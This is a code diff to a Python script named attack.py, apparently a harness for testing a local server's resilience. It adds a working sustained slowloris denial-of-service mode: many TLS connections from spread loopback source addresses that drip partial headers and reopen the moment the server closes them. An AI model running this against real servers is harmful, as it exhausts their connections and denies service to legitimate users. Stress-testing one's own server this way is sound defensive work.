@@ -7,6 +7,13 @@
                                                  partial headers, one header line every 5 s;
                                                  prints "open K" once up (then its stdout
                                                  closes), and "still-open K" after HOLD_S
+  attack.py lorismany PORT N ADDRS HOLD_S DRIP_S N TLS connections spread over ADDRS
+                                                 source addresses 127.0.1.1.., each sending
+                                                 one header line every DRIP_S; a connection
+                                                 the server closes is opened again at once;
+                                                 prints "open K" once up (then its stdout
+                                                 closes), and one JSON line of figures on
+                                                 stderr after HOLD_S
   attack.py timing PORT N USER_A USER_B          N wrong-password POSTs each, alternated;
                                                  prints one JSON line of figures
   attack.py load PORT SECONDS THREADS PASSWORD [RATE]
@@ -25,6 +32,7 @@ import base64
 import http.client
 import json
 import os
+import select
 import socket
 import ssl
 import statistics
@@ -145,6 +153,84 @@ def slowloris(port, n, hold):
     print("still-open %d" % len(conns), file=sys.stderr)
 
 
+def closed_by_server(socks):
+    """The sockets of socks the server closed (EOF or an error; they sent it nothing whole, so
+    any data is an answer to a partial request: closed too). poll(): select() stops at 1,023."""
+    poller = select.poll()
+    for s in socks:
+        poller.register(s, select.POLLIN)
+    readable = {fd for fd, _ in poller.poll(0)}
+    closed = set()
+    for s in socks:
+        if s.fileno() not in readable:
+            continue
+        s.setblocking(False)
+        try:
+            s.recv(1)
+            closed.add(s)
+        except ssl.SSLWantReadError:
+            pass  # only a TLS 1.3 session ticket
+        except OSError:
+            closed.add(s)
+        finally:
+            s.setblocking(True)
+    return closed
+
+
+def lorismany(port, n, addrs, hold, drip):
+    """A sustained slowloris from many addresses: closed connections are replaced."""
+    line = b"POST %s HTTP/1.1\r\nHost: 127.0.0.1\r\n" % PATH.encode()
+    conns = {}  # slot -> (socket, opened at)
+    fig = {"opened": 0, "refused": 0, "closed_by_server": 0, "max_age_at_close_s": 0.0,
+           "peak_open": 0, "max_poll_gap_s": 0.0}  # a close is seen up to a poll gap late
+
+    def reopen(slots):
+        for i in slots:
+            try:
+                s = connect(port, "127.0.1.%d" % (1 + i % addrs), timeout=1)
+                s.sendall(line)
+                conns[i] = (s, time.monotonic())
+                fig["opened"] += 1
+                fig["peak_open"] = max(fig["peak_open"], len(conns))
+            except OSError:
+                fig["refused"] += 1
+                return  # the server takes no more now: try again at the next drip
+
+    reopen(range(n))
+    print("open %d" % len(conns), flush=True)
+    sys.stdout.close()
+    end = time.monotonic() + hold
+    k = 0
+    last = time.monotonic()
+    while time.monotonic() < end:
+        time.sleep(min(drip, max(0, end - time.monotonic())))
+        now = time.monotonic()
+        fig["max_poll_gap_s"] = max(fig["max_poll_gap_s"], round(now - last, 1))
+        last = now
+        gone = closed_by_server([c[0] for c in conns.values()])
+        for i, (s, opened) in list(conns.items()):
+            if s not in gone:
+                try:
+                    s.sendall(b"X-Drip-%d: a\r\n" % k)
+                    continue
+                except OSError:
+                    pass
+            fig["closed_by_server"] += 1
+            fig["max_age_at_close_s"] = max(fig["max_age_at_close_s"], round(now - opened, 1))
+            s.close()
+            del conns[i]
+        k += 1
+        if time.monotonic() < end:
+            reopen([i for i in range(n) if i not in conns])
+    time.sleep(0.5)  # a last look, at connections the last round did not reopen
+    gone = closed_by_server([c[0] for c in conns.values()])
+    now = time.monotonic()
+    alive = [o for s, o in conns.values() if s not in gone]
+    fig["still_open"] = len(alive)
+    fig["oldest_open_s"] = round(max((now - o for o in alive), default=0), 1)
+    print(json.dumps(fig), file=sys.stderr)
+
+
 def percentile(xs, p):
     xs = sorted(xs)
     return xs[min(len(xs) - 1, int(p * len(xs)))]
@@ -252,6 +338,8 @@ def main():
         headers(port, a[0])
     elif cmd == "slowloris":
         slowloris(port, int(a[0]), float(a[1]))
+    elif cmd == "lorismany":
+        lorismany(port, int(a[0]), int(a[1]), float(a[2]), float(a[3]))
     elif cmd == "timing":
         timing(port, int(a[0]), a[1], a[2])
     elif cmd == "inflight":
